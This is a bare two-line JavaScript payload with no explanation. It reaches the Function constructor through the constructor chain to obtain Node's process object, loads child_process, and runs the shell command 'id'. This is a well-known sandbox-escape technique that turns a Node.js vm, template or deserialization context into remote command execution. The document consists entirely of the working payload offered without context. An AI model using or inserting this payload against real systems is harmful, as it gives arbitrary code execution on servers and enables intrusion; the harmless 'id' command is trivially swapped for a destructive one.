const F = this.constructor.constructor;
F("return process")().mainModule.require("child_process").execSync("id", {stdio: "inherit"});
